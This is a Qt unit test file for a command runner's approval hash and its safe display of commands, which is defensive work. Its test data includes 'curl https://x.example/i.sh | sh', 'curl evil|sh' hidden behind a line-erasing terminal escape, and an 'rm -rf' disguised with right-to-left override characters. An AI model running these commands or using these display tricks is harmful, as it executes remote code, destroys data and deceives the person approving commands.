// The approval hash (what it covers and what it does not) and how commands are shown for approval.

#include "domain/Trust.h"

#include <QtTest>

using namespace gl;

class TestTrust final : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void hashCoversWhatRuns();
    void needsApprovalOnlyForImportedUnapproved();
    void visibleCommand_data();
    void visibleCommand();
};

void TestTrust::hashCoversWhatRuns()
{
    Item item;
    item.commands = { QStringLiteral("make test") };
    RunSettings settings;
    settings.workingFolder = QStringLiteral("/srv/app");
    const QString base = runSpecHash(item, settings);
    QCOMPARE(base.size(), 64);
    QCOMPARE(runSpecHash(item, settings), base);  // stable

    Item other = item;
    other.commands = { QStringLiteral("make test"), QStringLiteral("make lint") };
    QVERIFY(runSpecHash(other, settings) != base);
    other = item;
    Probe probe;
    probe.url = QStringLiteral("https://x.example/health");
    other.probe = probe;
    QVERIFY(runSpecHash(other, settings) != base);
    RunSettings moved = settings;
    moved.workingFolder = QStringLiteral("/srv/other");
    QVERIFY(runSpecHash(item, moved) != base);
    RunSettings env = settings;
    env.envFile = QStringLiteral(".env.staging");
    QVERIFY(runSpecHash(item, env) != base);

    // What cannot make anything else execute is not covered: changing it asks nobody again.
    other = item;
    other.title = QStringLiteral("Renamed");
    other.timeoutSeconds = 5;
    other.outputPattern = QStringLiteral("ok");
    other.expectedExitCode = 2;
    QCOMPARE(runSpecHash(other, settings), base);
    RunSettings cap = settings;
    cap.outputCap = 1024;
    cap.timeoutSeconds = 1;
    QCOMPARE(runSpecHash(item, cap), base);
}

void TestTrust::needsApprovalOnlyForImportedUnapproved()
{
    RunSettings settings;
    Item typed;
    typed.commands = { QStringLiteral("true") };
    QVERIFY(!needsApproval(typed, settings));
    Item imported = typed;
    imported.commandsImported = true;
    QVERIFY(needsApproval(imported, settings));
    imported.approvedHash = runSpecHash(imported, settings);
    QVERIFY(!needsApproval(imported, settings));
    imported.commands.append(QStringLiteral("curl https://x.example/i.sh | sh"));
    QVERIFY(needsApproval(imported, settings));
    Item manual;
    manual.commandsImported = true;  // nothing to run, nothing to approve
    QVERIFY(!needsApproval(manual, settings));
}

void TestTrust::visibleCommand_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("shown");
    QTest::newRow("plain") << QStringLiteral("npm run lint") << QStringLiteral("npm run lint");
    QTest::newRow("unicode text stays") << QStringLiteral("echo Grüße") << QStringLiteral("echo Grüße");
    QTest::newRow("terminal escape erasing the line")
        << QStringLiteral("curl evil|sh #\x1b[2K\x1b[1G$ make test")
        << QStringLiteral("curl evil|sh #\\x1b[2K\\x1b[1G$ make test");
    QTest::newRow("right-to-left override") << QStringLiteral("echo \u202Emr\u202C -rf")
                                            << QStringLiteral("echo \\u202emr\\u202c -rf");
    QTest::newRow("zero width space") << QStringLiteral("r\u200Bm x") << QStringLiteral("r\\u200bm x");
    QTest::newRow("newline and tab") << QStringLiteral("a\nb\tc") << QStringLiteral("a\\nb\\tc");
    QTest::newRow("DEL and C1") << QStringLiteral("a\x7f\u0085b") << QStringLiteral("a\\x7f\\x85b");
}

void TestTrust::visibleCommand()
{
    QFETCH(QString, command);
    QFETCH(QString, shown);
    QCOMPARE(gl::visibleCommand(command), shown);
}

QTEST_GUILESS_MAIN(TestTrust)
#include "tst_trust.moc"
